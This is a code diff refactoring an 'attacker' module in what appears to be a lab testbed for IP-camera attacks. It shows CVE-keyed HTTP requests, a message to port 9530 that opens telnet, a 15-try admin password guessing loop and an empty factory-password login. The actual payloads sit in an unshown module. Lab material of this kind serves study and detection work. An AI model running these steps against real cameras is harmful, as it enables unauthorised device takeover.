@@ -15,7 +15,6 @@ from __future__ import annotations
 
 import argparse
 import asyncio
-import contextlib
 import logging
 import sys
 import time
@@ -24,43 +23,18 @@ from pathlib import Path
 from typing import Final
 
 from lab import attacks
-from lab.camera import BEHAVIOURS, POLL_SECONDS
+from lab.camera import BEHAVIOURS, POLL_SECONDS, http_exchange, http_status
 from lab.process import act_on_triggers, lab_arguments, run_main
 from lab.topology import Camera, LabDescription, LabEvent, LabPaths
 
-__all__ = ["GUESSES", "NAME", "exchange", "main"]
+__all__ = ["GUESSES", "NAME", "main"]
 
 log = logging.getLogger(__name__)
 
 NAME: Final = "attacker"
 GUESSES: Final = 15
 TIMEOUT: Final = 5.0
-MAX_REPLY: Final = 64 * 1024
 BETWEEN: Final = 0.5  # seconds between the two behaviours
-
-
-async def exchange(source: str, host: str, port: int, data: bytes, *, wait_close: bool = True) -> bytes:
-    """Send ``data`` from ``source`` on a new connection and read the answer until the peer closes."""
-    async with asyncio.timeout(TIMEOUT):
-        reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
-        try:
-            writer.write(data)
-            await writer.drain()
-            reply = b""
-            while len(reply) < MAX_REPLY and (chunk := await reader.read(65536)):
-                reply += chunk
-                if not wait_close:
-                    break
-        finally:
-            writer.close()
-            with contextlib.suppress(OSError):
-                await writer.wait_closed()
-    return reply
-
-
-def _status(reply: bytes) -> int | None:
-    head = reply.split(b"\r\n", 1)[0].split()
-    return int(head[1]) if len(head) > 1 and head[1].isdigit() else None
 
 
 class Attacker:
@@ -108,8 +82,9 @@ class Attacker:
             ),
         }
         for cve, request in requests.items():
-            statuses[cve] = _status(await exchange(src, ip, 80, request))
-        opened = await exchange(src, ip, 9530, attacks.enabler_message("OpenTelnet:OpenOnce"))
+            statuses[cve] = http_status(await http_exchange(ip, 80, request, TIMEOUT, source=src))
+        enable = attacks.enabler_message("OpenTelnet:OpenOnce")
+        opened = await http_exchange(ip, 9530, enable, TIMEOUT, source=src)  # (not HTTP: the same exchange)
         detail.update(http=statuses, enabler=opened[1:].rstrip(b"\x00").decode("ascii", "replace"))
         if b"Open:OK" not in opened:
             raise ValueError(f"the telnet enabler answered {opened[:32]!r}")
@@ -134,11 +109,13 @@ class Attacker:
         refused = 0
         for i in range(GUESSES):
             auth = attacks.basic_auth("admin", f"guess{i:02d}")
-            reply = await exchange(src, ip, 80, attacks.http_request("GET", "/", ip, authorization=auth))
-            refused += _status(reply) == 401
+            reply = await http_exchange(
+                ip, 80, attacks.http_request("GET", "/", ip, authorization=auth), TIMEOUT, source=src
+            )
+            refused += http_status(reply) == 401
         factory = attacks.http_request("GET", "/", ip, authorization=attacks.basic_auth("admin", ""))
-        found = await exchange(src, ip, 80, factory)
-        detail.update(attempts=GUESSES + 1, refused=refused, factory_password_status=_status(found))
+        found = await http_exchange(ip, 80, factory, TIMEOUT, source=src)
+        detail.update(attempts=GUESSES + 1, refused=refused, factory_password_status=http_status(found))
 
 
 async def run(directory: Path) -> None:
